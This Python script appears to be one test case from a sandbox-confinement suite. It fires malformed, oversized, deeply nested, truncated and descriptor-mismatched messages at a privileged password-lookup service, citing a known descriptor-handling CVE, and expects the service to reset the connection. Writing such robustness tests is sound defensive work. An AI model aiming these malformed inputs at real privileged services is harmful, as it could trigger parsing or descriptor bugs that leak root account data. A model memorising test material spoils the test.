# Route: sends a service messages that are cut, enormous, nested, without the mark, and with more or fewer descriptors than they say
# Known from: readers that believe a length; CVE-2019-5608 and others, where descriptors of messages were lost
# Grants: { descriptors: { 3: !service { pwd: { users: [root] } } } }
# Refused: ECONNRESET
# Twin: asks for the user within the limits afterwards, by the channel from which the broken ones were cloned
# Unconfined: cannot run: the descriptor is handed over by us
# Worlds: walls
import array
import os
import socket
import struct
import attempt as a

channel = socket.socket(fileno=3)
asked = a.encoded({"call": "getpwnam", "arguments": {"name": "root"}})

nested = b""
for _ in range(200):
    nested = a.encoded([]) if nested == b"" else b"\x07" + bytes([len(nested) >> 7 & 0x7F, 0x80 | len(nested) & 0x7F]) + nested

messages = [
    (struct.pack("<IHH", 2**32 - 1, 0, 0xCA5E) + asked, 0),
    (struct.pack("<IHH", 70_000, 0, 0xCA5E) + bytes(70_000), 0),
    (struct.pack("<IHH", len(asked), 0, 0) + asked, 0),
    (a.framed(asked, descriptors=1), 0),
    (a.framed(asked, descriptors=65535), 0),
    (a.framed(asked), 3),
    (a.framed(asked, descriptors=1), 5),
    (a.framed(nested), 0),
    (a.framed(asked[:-3]), 0),
    (a.framed(b""), 0),
    (a.framed(b"\xff" * 100), 0),
    (os.urandom(4096), 0),
    (a.framed(asked)[:11], 0),
]


def send(message, descriptors):
    clone = a.clone_channel(channel)
    passed = array.array("i", [2] * descriptors)
    ancillary = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, passed)] if descriptors else []
    try:
        clone.sendmsg([message], ancillary)
        clone.shutdown(socket.SHUT_WR)
        return a.channel_answer(clone)[0]
    except OSError:
        return b""


def garbage():
    answers = [send(*message) for message in messages]
    if not any(b"\x08result\0" in answer for answer in answers):
        raise ConnectionResetError(104, "no answers")


a.attempt(garbage)
a.twin(lambda: a.ask_channel(channel, "getpwnam", name="root")[0].index(b"uid"))
